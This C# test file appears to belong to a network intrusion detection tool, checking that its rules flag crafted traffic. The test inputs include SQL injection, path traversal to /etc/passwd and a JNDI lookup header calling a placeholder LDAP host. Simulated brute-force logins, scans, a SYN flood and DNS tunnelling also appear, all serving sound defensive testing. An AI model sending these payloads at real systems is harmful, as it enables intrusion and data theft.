using System.Text;
using NetSniff.Detection;
using NetSniff.Detection.Rules;
using NetSniff.Fuzz.Captures;
using NetSniff.Packets;
using NetSniff.Records;
using NetSniff.Worker.Detect;

namespace NetSniff.Tests.Detection.Rules;

/// <summary>The rules that come along, on packets that are made here: through decoding, flows, streams and parsers.
/// </summary>
public class RulesOnPacketsTests
{
    private const long Second = 1_000_000_000;
    private const long Start = 1_767_225_600 * Second;

    private static readonly Address s_server = Address.FromBytes([198, 51, 100, 20]);

    [Theory]
    [InlineData("sql-injection", "GET /p?id=1%27%20or%20%271%27=%271 HTTP/1.1\r\nHost: a\r\n\r\n")]
    [InlineData("path-traversal", "GET /..%2f..%2f..%2fetc%2fpasswd HTTP/1.1\r\nHost: a\r\n\r\n")]
    [InlineData("command-injection", "GET / HTTP/1.1\r\nHost: a\r\nX-Api: ${jndi:ldap://192.0.2.9/a}\r\n\r\n")]
    [InlineData("cleartext-credentials", "GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Basic dTpw\r\n\r\n")]
    public void A_request_is_found(string rule, string request)
    {
        var frames = Call(50_000, request, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok", Start);
        Assert.Equal([rule], Found(frames));
    }

    [Fact]
    public void A_request_like_any_other_is_not() => Assert.Empty(Found(Call(
        50_000, "GET /shop/cart?id=42&sort=name+asc HTTP/1.1\r\nHost: a\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
        "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok", Start)));

    [Fact]
    public void Logins_refused_in_a_row_are_found()
    {
        const string request = "POST /login HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\na=b";
        const string refused = "HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n";
        var frames = Enumerable.Range(0, 40)
            .SelectMany(call => Call((ushort)(50_000 + call), request, refused, Start + call * Second / 2));
        Assert.Equal(["brute-force-http"], Found(frames));
    }

    [Fact]
    public void Ports_tried_one_after_the_other_are_found()
    {
        var frames = Enumerable.Range(1, 80).SelectMany(port => Refused(
            Address.FromBytes([192, 0, 2, 10]), s_server, (ushort)port, Start + port * Second / 10));
        Assert.Equal(["port-scan"], Found(frames));
    }

    [Fact]
    public void Hosts_tried_one_after_the_other_are_found()
    {
        var frames = Enumerable.Range(1, 80).SelectMany(host => Refused(
            Address.FromBytes([192, 0, 2, 10]), Address.FromBytes([198, 51, 100, (byte)host]), 445,
            Start + host * Second / 10));
        Assert.Equal(["host-sweep"], Found(frames));
    }

    [Fact]
    public void A_flood_of_beginnings_is_found()
    {
        var frames = Enumerable.Range(0, 3000).Select(number => Syn(
            Address.FromBytes([203, 0, (byte)(number >> 8), (byte)number]), s_server, 443,
            Start + number * 1_000_000L));
        Assert.Equal(["syn-flood"], Found(frames));
    }

    [Fact]
    public void Names_that_carry_data_are_found()
    {
        var frames = Enumerable.Range(0, 60).Select(number => FrameBuilder.Ethernet(new Segment(
            new Ends(Address.FromBytes([192, 0, 2, 10]), s_server, (ushort)(40_000 + number), 53),
            Question($"{number:x4}abcdefghijklmnopqrstuvwxyz012345", "t", "example"),
            Start + number * Second / 10)));
        Assert.Equal(["dns-tunnel"], Found(frames));
    }

    private static byte[] Question(params string[] labels) =>
    [
        0x12, 0x34, 0x01, 0, 0, 1, 0, 0, 0, 0, 0, 0,
        .. labels.SelectMany(label => (byte[])[(byte)label.Length, .. Encoding.ASCII.GetBytes(label)]), 0, 0, 16, 0, 1,
    ];

    private static IEnumerable<CapturedFrame> Call(ushort port, string request, string answer, long time) =>
        Handmade.Segments(new Talk(port, 80, [Saying(false, request), Saying(true, answer)]), time)
            .Select(FrameBuilder.Ethernet);

    private static Saying Saying(bool isFromServer, string text) => new(isFromServer, Encoding.ASCII.GetBytes(text));

    private static CapturedFrame Syn(Address client, Address server, ushort port, long time) =>
        FrameBuilder.Ethernet(new Segment(new Ends(client, server, 40_000, port), [], time)
        {
            IsTcp = true, Flags = TcpFlags.Syn, Sequence = 1,
        });

    private static IEnumerable<CapturedFrame> Refused(Address client, Address server, ushort port, long time) =>
    [
        Syn(client, server, port, time),
        FrameBuilder.Ethernet(new Segment(new Ends(server, client, port, 40_000), [], time + 100_000)
        {
            IsTcp = true, Flags = TcpFlags.Rst | TcpFlags.Ack, Acknowledgement = 2,
        }),
    ];

    /// <returns>The rules that found something.</returns>
    private static List<string> Found(IEnumerable<CapturedFrame> frames)
    {
        CapturedFrame[] all = [.. frames];
        List<RuleProblem> problems = [];
        var files = RuleFiles.Read(Path.Combine(Repository.Root, "rules"));
        RuleSpec[] specs = [.. files.Specs(problems).Select(spec => spec with { Tests = [] })];
        var set = new RuleLoader().Load(specs, problems, out _);
        var seen = new Seen(new DetectionRun(set!));
        using var slots = new GuardedSlots(NetSniff.Pipeline.Shard.BatchMax);
        using var run = new ShardRun(ShardRun.Options, seen, slots);
        run.Take(all, all.Length);
        run.Shard.Finish();
        return [.. seen.Rules];
    }

    private sealed class Seen(DetectionRun run) : RecordConsumer
    {
        public SortedSet<string> Rules { get; } = new(StringComparer.Ordinal);

        public override void Consume(ReadOnlySpan<byte> records, int count)
        {
            run.Run(records, 0);
            foreach (var finding in new RecordWalker(run.Findings))
            {
                Assert.True(finding.TryGet("finding.rule", out var rule));
                Rules.Add(Encoding.UTF8.GetString(rule.Text));
            }
        }
    }
}
